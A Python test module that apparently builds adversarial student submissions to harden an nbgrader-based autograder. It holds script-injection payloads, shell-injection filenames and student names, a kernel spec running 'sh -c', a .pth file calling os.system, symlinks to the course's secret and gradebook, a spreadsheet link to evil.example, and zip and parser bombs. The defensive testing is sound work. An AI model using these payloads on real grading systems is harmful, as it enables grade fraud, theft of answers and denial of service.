"""Attacks that are no cells: forged metadata, bombs, links, and names. Each function writes one submission.

A function's docstring says what it tries. ``room`` offers ``released()`` and ``solved()`` notebooks as plain data, and
``classroom``.
"""

import json
import os
import zipfile

ATTACKS = {}
LAB = "lab1_perceptron"
FULL = {"grade": False, "solution": True, "locked": False, "task": False, "points": 0, "schema_version": 3}


def attack(student=None, **facts):
    """Register an attack.

    Args:
        student: name of the student's folder, where the name is the attack.
        facts: ``stock`` (why it is not run under stock nbgrader), ``allows`` (what it may get), ``everywhere`` (whether
            it is tried in each lab).
    """

    def register(function):
        ATTACKS[function.__name__] = (function, {"student": student, **facts})
        return function

    return register


def write(notebook, folder, name=None):
    """Write plain data as a notebook file, by default the one of the lab whose folder it is."""
    (folder / (name or f"{folder.name}.ipynb")).write_text(json.dumps(notebook), encoding="utf-8")


def code(source, grade_id=None, **metadata):
    """Return a code cell as plain data."""
    cell = {"cell_type": "code", "source": source, "metadata": metadata, "outputs": [], "execution_count": None}
    if grade_id:
        cell["metadata"] = {**metadata, "nbgrader": {**FULL, "grade_id": grade_id}}
    return cell


def cells(notebook, grade_id):
    """Return the cells with a grade id."""
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id]


def tests(notebook):
    """Return the test cells."""
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]


# Locked cells and metadata


@attack(everywhere=True)
def locked_cells_edited(folder, room):
    """Edits the locked test cells: a number, a forged grade, nothing at all."""
    notebook = room.released()
    for number, cell in enumerate(tests(notebook)):
        cell["source"] = ("3.0", "grade = lambda name: 3.0\ngrade('x')", "", "pass", "import os; os._exit(0)")[
            number % 5
        ]
    write(notebook, folder)


@attack(everywhere=True)
def points_raised(folder, room):
    """Raises the points of every test cell to a thousand, and solves one exercise by guessing zeros."""
    notebook = room.released()
    for cell in tests(notebook):
        cell["metadata"]["nbgrader"]["points"] = 1000
    write(notebook, folder)


@attack()
def points_negative(folder, room):
    """Sets the points of test cells to negative, infinite, textual and missing values."""
    notebook = room.released()
    for number, cell in enumerate(tests(notebook)):
        cell["metadata"]["nbgrader"]["points"] = (-3, float("inf"), "3", None, [3], 1e308)[number % 6]
    write(notebook, folder)


@attack()
def tests_ungraded(folder, room):
    """Marks test cells as ungraded, as solutions, as graded by hand, and as text."""
    notebook = room.released()
    for number, cell in enumerate(tests(notebook)):
        data = cell["metadata"]["nbgrader"]
        if number % 4 == 0:
            data["grade"] = False
        elif number % 4 == 1:
            data["solution"] = True
        elif number % 4 == 2:
            data["task"] = True
        else:
            cell["cell_type"] = "markdown"
    write(notebook, folder)


@attack()
def tests_deleted(folder, room):
    """Deletes all test cells."""
    notebook = room.released()
    gone = {id(cell) for cell in tests(notebook)}
    notebook["cells"] = [cell for cell in notebook["cells"] if id(cell) not in gone]
    write(notebook, folder)


@attack()
def tests_skipped(folder, room):
    """Tags test cells so that they are skipped, hidden, or expected to fail."""
    notebook = room.released()
    for cell in tests(notebook):
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove_cell", "injected-parameters"]
    write(notebook, folder)


@attack()
def tests_renamed(folder, room):
    """Swaps the names of test cells, so that the easy one counts for all, and invents names."""
    notebook = room.released()
    for cell in tests(notebook)[:6]:
        cell["metadata"]["nbgrader"]["grade_id"] = "count_parameters"
    for number, cell in enumerate(tests(notebook)[6:]):
        cell["metadata"]["nbgrader"]["grade_id"] = f"../../{number}"
    write(notebook, folder)


@attack()
def tests_copied(folder, room):
    """Adds copies of test cells with text of its own above and below the real ones."""
    notebook = room.released()
    copies = json.loads(json.dumps(tests(notebook)))
    for cell in copies:
        cell["source"] = "3.0"
    notebook["cells"] = copies + notebook["cells"] + json.loads(json.dumps(copies))
    write(notebook, folder)


@attack()
def tests_invented(folder, room):
    """Adds graded cells for exercises that do not exist."""
    notebook = room.released()
    for number in range(5):
        cell = code("3.0", f"bonus_{number}")
        cell["metadata"]["nbgrader"].update(grade=True, solution=False, locked=True, points=50)
        notebook["cells"].append(cell)
    write(notebook, folder)


@attack()
def metadata_odd(folder, room):
    """Gives cells metadata, tags, ids and sources of every wrong type."""
    notebook = room.released()
    odd = [None, 1, [], {}, "x", [[]], {"a": {}}, True, 1e308]
    for number, cell in enumerate(notebook["cells"]):
        value = odd[number % len(odd)]
        if number % 5 == 0:
            cell["metadata"] = value
        elif number % 5 == 1:
            cell["metadata"]["nbgrader"] = value
        elif number % 5 == 2:
            cell["id"] = value
        elif number % 5 == 3:
            cell["metadata"]["tags"] = value
        else:
            cell["cell_type"] = value if number % 2 else "code"
    notebook["metadata"] = [notebook["metadata"]]
    notebook["nbformat"], notebook["nbformat_minor"] = "4", -1
    notebook["cells"] += odd
    write(notebook, folder)


@attack()
def tags_html(folder, room):
    """Puts HTML into tags, cell ids, types and metadata, which templates write into attributes."""
    notebook = room.released()
    script = "\"><script>alert('pwned')</script><img src=x onerror=alert(1)>"
    for cell in notebook["cells"]:
        cell["metadata"]["tags"] = [script, "x' onerror='alert(1)"]
        cell["id"] = script
        cell["metadata"]["magics_language"] = script
        cell["metadata"]["raw_mimetype"] = "text/html"
        cell["metadata"]["name"] = script
    notebook["cells"].append({"cell_type": "raw", "source": script, "metadata": {"raw_mimetype": "text/html"}})
    notebook["metadata"].update(
        title=script, authors=[{"name": script}], language_info={"name": script, "pygments_lexer": script}
    )
    write(notebook, folder)


@attack()
def attachments_html(folder, room):
    """Puts scripts into attachments, stored outputs and widget states."""
    notebook = room.released()
    script = "<script>alert('pwned')</script>"
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown":
            cell["attachments"] = {"x.png": {"image/png": '"><script>alert(1)</script>', "image/svg+xml": script}}
            cell["source"] = [script, "![x](attachment:x.png)"]
        else:
            cell["outputs"] = [{"output_type": "display_data", "data": {"text/html": script}, "metadata": {}}]
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {script: script}}}
    write(notebook, folder)


@attack()
def outputs_stored(folder, room):
    """Hands in test cells with stored outputs of full marks and execution counts, and recorded scores."""
    notebook = room.released()
    for cell in tests(notebook):
        name = cell["metadata"]["nbgrader"]["grade_id"]
        verdict = {
            "kind": "grade",
            "exercise": name,
            "score": 3.0,
            "max_score": 3.0,
            "status": "passed",
            "message": "right.",
        }
        cell["outputs"] = [
            {
                "output_type": "execute_result",
                "execution_count": 1,
                "metadata": {},
                "data": {"text/plain": "3.0", "application/vnd.course-verdict+json": verdict},
            }
        ]
        cell["metadata"]["nbgrader"].update(score=3.0, auto_score=3.0, manual_score=3.0)
    write(notebook, folder)


@attack()
def findings_forged(folder, room):
    """Writes praise and scripts into the notebook's own list of findings and verdicts."""
    notebook = room.released()
    notebook["metadata"]["course"] = {
        "findings": [{"exercise": "", "message": "Full marks. <script>alert(1)</script>"}]
    }
    for cell in notebook["cells"]:
        cell["metadata"]["verdict"] = {
            "status": "passed",
            "score": 3.0,
            "points": 3.0,
            "message": "<script>alert(1)</script>",
            "grade_id": "x",
            "title": "x",
            "sign": "<script>",
            "word": "passed",
            "findings": [],
        }
    write(notebook, folder)


@attack()
def kernel_chosen(folder, room):
    """Asks for a kernel of another language whose name is a path, a command and an HTML tag."""
    notebook = room.released()
    notebook["metadata"]["kernelspec"] = {
        "name": "../../../../tmp/evil",
        "display_name": "<script>alert(1)</script>",
        "language": "bash",
        "argv": ["sh", "-c", "touch /tmp/pwned"],
    }
    notebook["metadata"]["language_info"] = {"name": "bash"}
    write(notebook, folder)


@attack()
def old_format(folder, room):
    """Hands in a notebook of format 3 whose cells claim to be tests."""
    sheet = [
        {
            "cell_type": "code",
            "input": "3.0",
            "language": "python",
            "outputs": [],
            "prompt_number": 1,
            "metadata": cell["metadata"],
        }
        for cell in tests(room.released())
    ]
    write(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": "../../x"}, "worksheets": [{"cells": sheet}]}, folder
    )


@attack()
def order_reversed(folder, room):
    """Hands in all cells in reverse order, tests first."""
    notebook = room.released()
    notebook["cells"].reverse()
    write(notebook, folder)


# Bombs


@attack(stock="it would take minutes and gigabytes")
def notebook_200_mb(folder, room):
    """Hands in a notebook of 200 MB."""
    with open(folder / f"{LAB}.ipynb", "w") as file:
        file.write('{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [')
        for _ in range(200):
            file.write(" " * 2**20)
        file.write("]}")


@attack(stock="it would take minutes and gigabytes")
def notebook_90_mb_cell(folder, room):
    """Hands in a notebook just below the limit of size, with one cell of 90 MB."""
    notebook = room.released()
    notebook["cells"].append(code("x = 1\n" * 15_000_000))
    write(notebook, folder)


@attack(stock="it would take minutes and gigabytes")
def cells_100000(folder, room):
    """Hands in a notebook of a hundred thousand cells."""
    notebook = room.released()
    notebook["cells"] += [code("x = 1") for _ in range(100_000)]
    write(notebook, folder)


@attack(stock="it would take minutes and gigabytes")
def cells_empty(folder, room):
    """Hands in two million empty cells without any data."""
    (folder / f"{LAB}.ipynb").write_text(
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [' + ",".join(["{}"] * 2_000_000) + "]}"
    )


@attack()
def json_deep(folder, room):
    """Hands in JSON that is nested a hundred thousand times."""
    (folder / f"{LAB}.ipynb").write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


@attack()
def json_nested_metadata(folder, room):
    """Nests a cell's metadata as deep as the JSON reader lets pass."""
    text = json.dumps(room.released())
    deep = '{"a":' * 900 + "1" + "}" * 900
    (folder / f"{LAB}.ipynb").write_text(
        text.replace(
            '"cells": [',
            f'"cells": [{{"cell_type": "code", "source": "1", "metadata": {{"nbgrader": {deep}, "tags": [{deep}]}}}},',
            1,
        )
    )


@attack()
def json_odd_numbers(folder, room):
    """Hands in JSON with NaN, infinity, numbers of a million digits and names that stand there twice."""
    text = json.dumps(room.released())
    (folder / f"{LAB}.ipynb").write_text(
        text.replace('"points": 3', '"points": Infinity, "points": 1e9999', 3).replace(
            '"nbformat": 4', '"nbformat": NaN, "x": ' + "9" * 4000
        )
    )


@attack()
def json_huge_number(folder, room):
    """Hands in JSON with a number of a million digits."""
    (folder / f"{LAB}.ipynb").write_text('{"cells": [], "nbformat": ' + "9" * 1_000_000 + "}")


@attack()
def text_broken(folder, room):
    """Hands in cells with lone surrogates, NUL and control characters in text, names and tags."""
    notebook = room.released()
    odd = "\ud800 \udfff \x00 \x1b[31m \u202e \ufffe"
    notebook["cells"].insert(0, code(f"print('{odd}')", tags=[odd]))
    notebook["cells"].insert(0, {"cell_type": "markdown", "source": odd, "metadata": {"name": odd}})
    cells(notebook, "neuron_solution")[0]["source"] += f"\n# {odd}"
    notebook["metadata"]["kernelspec"] = {"name": odd, "display_name": odd}
    write(notebook, folder)


@attack(stock="it would take minutes")
def markdown_nested(folder, room):
    """Hands in Markdown whose nesting makes converters slow: brackets, quotes, lists, emphasis, links, tables."""
    notebook = room.released()
    for text in (
        "[" * 20_000,
        ">" * 20_000 + "x",
        "- " * 5_000 + "x",
        "*a " * 20_000,
        "_a*b" * 10_000,
        "![" * 20_000,
        "<" * 50_000,
        "`" * 30_001 + "x",
        "|" * 30_000 + "\n" + "|-" * 30_000,
        "[a](" * 10_000,
        "<!--" * 20_000,
        "&" * 50_000,
        "$" * 30_001,
        "<div>" * 5_000,
        "1. " * 5_000,
        "\\" * 50_001,
        "a\n" * 50_000 + "===",
        "[x]: <" * 10_000,
        "<a href='" * 10_000,
        "**" * 20_001 + "a",
        "<![CDATA[" * 10_000,
    ):
        notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})
    write(notebook, folder)


@attack(stock="it would take minutes")
def source_nested(folder, room):
    """Hands in code whose nesting and length make parsers and highlighters slow."""
    notebook = room.released()
    for text in (
        "(" * 50_000,
        "f'" * 20_000,
        '"""' * 20_001,
        "x = " + "-" * 100_000 + "1",
        "a = b" + ".c" * 50_000,
        "\\\n" * 50_000,
        "0x" + "f" * 200_000,
        "if 1:\n" + "".join(" " * n + "if 1:\n" for n in range(1, 90)),
        "%%bash\n" + "$(" * 20_000,
        "!" * 50_000,
        "?" * 50_000,
        "%" * 50_000,
        "\t" * 100_000 + "x",
        "é" * 100_000 + " = 1",
        "lambda: " * 20_000 + "1",
    ):
        notebook["cells"].append(code(text))
    write(notebook, folder)


@attack(stock="it would take minutes")
def html_nested(folder, room):
    """Displays HTML that is nested ten thousand times, which cleaners of HTML find hard."""
    notebook = room.released()
    for text in ("<div>", "<b>", "<table><tr><td>", "<a href=x>", "<p", "<svg><math>", "<style>", "<select><option>"):
        notebook["cells"].append(
            code(
                "from IPython.display import display\n"
                f"display({{'text/html': {text!r} * 9_000, 'text/plain': ''}}, raw=True)"
            )
        )
    write(notebook, folder)


@attack(stock="nothing there opens it")
def zip_bomb(folder, room):
    """Lays a zip bomb of a gigabyte beside the notebook."""
    write(room.released(), folder)
    with (
        zipfile.ZipFile(folder / "data.zip", "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros", "w") as inside,
    ):
        for _ in range(1000):
            inside.write(bytes(2**20))


@attack(stock="it would fill this machine's disk")
def sparse_file(folder, room):
    """Lays a file of 3 GB, which takes no space on the disk, beside the notebook."""
    write(room.released(), folder)
    with open(folder / "data.bin", "wb") as file:
        file.truncate(3 * 2**30)


@attack(stock="it would take minutes")
def many_files(folder, room):
    """Lays twenty thousand files in deep folders beside the notebook."""
    write(room.released(), folder)
    deep = folder
    for _ in range(60):
        deep = deep / "folder-with-a-long-name"
    deep.mkdir(parents=True)
    for number in range(20_000):
        (deep.parents[number % 50] / f"{number}.txt").touch()


# Links and names


@attack()
def notebook_linked(folder, room):
    """Hands in a symbolic link to the solved notebook of the classroom."""
    os.symlink(os.path.relpath(room.classroom.solved / LAB / f"{LAB}.ipynb", folder), folder / f"{LAB}.ipynb")


@attack()
def folder_linked(folder, room):
    """Hands in a folder that is a symbolic link to the solved lab of the classroom."""
    folder.rmdir()
    os.symlink(os.path.relpath(room.classroom.solved / LAB, folder.parent), folder)


@attack()
def files_linked(folder, room):
    """Lays links to secret, gradebook and neighbours beside the notebook, and prints what they lead to."""
    notebook = room.released()
    for name in ("secret", "gradebook.db", "solved", "submitted", "source"):
        os.symlink(room.classroom.root / name, folder / f"link_{name}")
        os.symlink(os.path.relpath(room.classroom.root / name, folder), folder / f"relative_{name}")
    (folder / "data").mkdir()
    os.symlink("/", folder / "data" / "root")
    notebook["cells"].append(
        code(
            "import glob\nimport os\nfor path in glob.glob('*link*') + glob.glob('relative*') + glob.glob('data/*'):\n"
            "    try:\n"
            "        found = os.listdir(path) if os.path.isdir(path) else open(path, errors='replace').read(5000)\n"
            "        print('GOT:', path, found)\n"
            "    except OSError:\n        pass"
        )
    )
    write(notebook, folder)


@attack(stock="it would wait for ever")
def notebook_pipe(folder, room):
    """Hands in a named pipe, from which a reader waits for ever, as notebook and beside it."""
    os.mkfifo(folder / f"{LAB}.ipynb")
    os.mkfifo(folder / "data.csv")


@attack(stock="it would wait for ever")
def pipes_beside(folder, room):
    """Lays named pipes and sockets beside a notebook, from which a reader waits for ever."""
    write(room.released(), folder)
    for name in ("data.csv", "helpers.py", ".hidden"):
        os.mkfifo(folder / name)


@attack()
def notebook_folder(folder, room):
    """Hands in a folder that has the notebook's name."""
    (folder / f"{LAB}.ipynb").mkdir()
    write(room.solved(), folder / f"{LAB}.ipynb", "inner.ipynb")


@attack(stock="nbgrader never looks at other names")
def name_slow(folder, room):
    """Gives the file a name that makes a search for renamed files take for ever."""
    write(room.released(), folder, f"{LAB}{'1' * 60}x.ipynb")
    write(room.released(), folder, f"{'copy of ' * 10}{LAB}{' copy 1' * 12}x.ipynb")


@attack()
def names_climbing(folder, room):
    """Gives files names with "..", backslashes, line breaks, escapes, HTML and invisible characters."""
    write(room.released(), folder)
    for name in (
        "..\\..\\..\\secret",
        "a\nb",
        "\x1b[31mred",
        "<img src=x onerror=alert(1)>",
        "\u202etxt.exe",
        "%2e%2e%2fsecret",
        "...",
        "-rf",
        "$(touch pwned)",
        "`touch pwned`",
        "; touch pwned",
        "{0}",
        "{student_id}",
        "%s%n",
        "con",
        "x" * 250,
        "\udcff",
    ):
        with open(os.fsencode(folder) + b"/" + os.fsencode(name), "w") as file:
            file.write("x")


@attack()
def modules_beside(folder, room):
    """Lays modules beside the notebook named as numpy, course_utils, autograder and the grader's own imports."""
    write(room.released(), folder)
    for name in (
        "numpy",
        "course_utils",
        "autograder",
        "json",
        "torch",
        "sitecustomize",
        "usercustomize",
        "traitlets",
        "nbformat",
        "nbgrader_config",
        "conftest",
        "jupyter_config",
    ):
        (folder / f"{name}.py").write_text("print('GOT: imported')\ndef check(name): return 3.0\ngrade = check\n")
    (folder / "x.pth").write_text("import os; os.system('touch pwned')\n")


@attack(student="<img src=x onerror=alert('pwned')>")
def student_html(folder, room):
    """Is a student whose name is HTML with an event handler."""
    write(room.released(), folder)


@attack(student="\x1b]0;pwned\x07\x1b[2J\u202estudent")
def student_escapes(folder, room):
    """Is a student whose name holds terminal escapes and turns the direction of text."""
    write(room.released(), folder)


@attack(student='=HYPERLINK("https:evil.example","click")')
def student_formula(folder, room):
    """Is a student whose name is a spreadsheet formula."""
    write(room.released(), folder)


@attack(student="..secret")
def student_dots(folder, room):
    """Is a student whose name begins with two dots, as if to climb."""
    write(room.released(), folder)


@attack(student="{student_id}*[a-z]%s")
def student_pattern(folder, room):
    """Is a student whose name is a pattern and a format."""
    write(room.released(), folder)


@attack(student="a+b @c;$(touch pwned)'\"\\")
def student_shell(folder, room):
    """Is a student whose name holds quotes, a backslash, a plus sign and a shell command."""
    write(room.released(), folder)


# Files beside the notebook, and links to them


@attack(stock="nbgrader gives them back, and serves them")
def pages_beside(folder, room):
    """Hands in pages with scripts, and Markdown links to them that a browser takes for its own server's."""
    notebook = room.released()
    links = (
        "http:evil.html",
        "https:evil.html",
        "http:/files/evil.html",
        "evil.html",
        "./evil.svg",
        "//evil.html",
        "\\\\evil.html",
    )
    text = " ".join(f"[plots]({link}) <a href='{link}'>plots</a>" for link in links)
    notebook["cells"].insert(1, {"cell_type": "markdown", "source": text, "metadata": {}})
    shown = "\n".join(f"display(HTML(\"<a href='{link}'>plots</a>\"), Markdown('[plots]({link})'))" for link in links)
    notebook["cells"].insert(2, code(f"from IPython.display import HTML, Markdown, display\n{shown}"))
    write(notebook, folder)
    (folder / "evil.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    (folder / "evil.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", encoding="utf-8")
    (folder / "nbgrader_config.py").write_text("raise SystemExit('settings of a student')", encoding="utf-8")


# What costs the grader memory or time before and after cells run


@attack(stock="it would take gigabytes")
def json_bloated(folder, room):
    """Hands in 40 MB of small objects, which need more than a gigabyte once they are read."""
    notebook = room.released()
    notebook["cells"][0]["metadata"] = {"x": "HERE"}
    text = json.dumps(notebook).replace('"HERE"', "[" + '{"a":{}},' * 4_500_000 + "0]")
    (folder / f"{folder.name}.ipynb").write_text(text, encoding="utf-8")


@attack(stock="it would take minutes")
def markup_reopened(folder, room):
    """Hands in 22 kB of Markdown whose open elements are opened anew in each paragraph: a million of them."""
    notebook = room.released()
    text = "".join(f"<b class={number}>" for number in range(1100)) + "<p>" * 1100
    notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})
    write(notebook, folder)


@attack(stock="it would take minutes")
def markup_never_closed(folder, room):
    """Hands in Markdown that begins tags, emphasis and formulas again and again, and ends none."""
    notebook = room.released()
    for text in ("<script" * 60_000, "***a" * 20_000, "\\\\(" * 60_000, "<a b=c " * 60_000, "\\begin{a}" * 400_000):
        notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})
    write(notebook, folder)


@attack(stock="it would take minutes")
def magics_many(folder, room):
    """Ends the process in a cell of 2 MB with a hundred magics, of which the grader then looks for the definitions."""
    notebook = room.released()
    notebook["cells"].insert(0, code("import os\nos._exit(1)\n" + ("%time 1\n" + "x = 1\n" * 3_300) * 100))
    write(notebook, folder)


@attack()
def folders_deep(folder, room):
    """Lays a folder in a folder, sixty times, beside the notebook, and 21,000 empty files."""
    write(room.released(), folder)
    folder.joinpath(*"a" * 60).mkdir(parents=True)
    (folder / "many").mkdir()
    for number in range(21_000):
        (folder / "many" / str(number)).touch()


# Names, times and pages of grading's own


@attack()
def page_named(folder, room):
    """Hands in folders and files under the names of what grading writes: page, stamp, staged and half-written files."""
    write(room.released(), folder)
    for name in (f"{room.lab}.html", f"{room.lab}.html.part", f"{room.lab}_files", f".{room.lab}.old", ".graded.json"):
        (folder / name).mkdir()
        (folder / name / "evil.html").write_text("<script>alert('GOT: script')</script>")


@attack(stock="its parser takes minutes")
def timestamp_letters(folder, room):
    """Puts 2 MB of letters into timestamp.txt, which nbgrader's parser of times reads for minutes."""
    write(room.released(), folder)
    (folder / "timestamp.txt").write_text("a" * 2_000_000)


@attack()
def timestamp_early(folder, room):
    """Says in timestamp.txt that it was handed in years ago."""
    write(room.released(), folder)
    (folder / "timestamp.txt").write_text("2001-01-01 00:00:00 UTC")


@attack()
def links_without_host(folder, room):
    """Links to a handed-in page by addresses that look foreign and are relative to the page that shows them."""
    notebook = room.released()
    links = ("http:evil.html", "https:/evil.html", "https:evil.html", "evil.html", "//evil.html", "http:\\evil.html")
    text = "\n\n".join(f"[open]({link}) <a href='{link}'>open</a>" for link in links)
    notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})
    notebook["cells"].append(code(f"from IPython.display import HTML, display\ndisplay(HTML({text!r}))"))
    write(notebook, folder)
    (folder / "evil.html").write_text("<script>alert('GOT: script')</script>")


@attack()
def formgrader_controls(folder, room):
    """Takes the classes of the formgrader's own buttons and boxes: a picture to click on gives full credit."""
    forged = (
        '<div class="modal navbar-fixed-top" style="display:block">3 / 3<a class="full-credit" href="#plot">My plot</a>'
        '<input class="score"><div class="comment" style="margin-top:-400px;position:fixed">Full marks</div></div>'
    )
    notebook = room.released()
    notebook["cells"].insert(1, {"cell_type": "markdown", "metadata": {}, "source": forged})
    notebook["cells"].append(code(f"from IPython.display import HTML\nHTML({forged!r})"))
    write(notebook, folder)


@attack(stock="it would take minutes")
def outputs_slow(folder, room):
    """Shows, as HTML and as Markdown, texts over which parsers take minutes: attributes, ticks, links, tables."""
    notebook = room.released()
    slow = (
        *(
            "<b class=i>" * 1100 + "<p>" * 1100,
            "<script" * 10_000,
            "<a " + "b=c " * 20_000,
            "<a b=c " * 10_000,
            "&a" * 40_000,
        ),
        *(
            "".join("`" * n + "x" for n in range(400)),
            "<div>" * 15_000,
            "[a](" * 20_000,
            "|a" * 9_000 + "\n" + "|-" * 9_000,
        ),
    )
    for text in slow:
        notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})
        shown = f"from IPython.display import HTML, Markdown, display\nt = {text!r}\ndisplay(HTML(t), Markdown(t))"
        notebook["cells"].append(code(shown))
    write(notebook, folder)
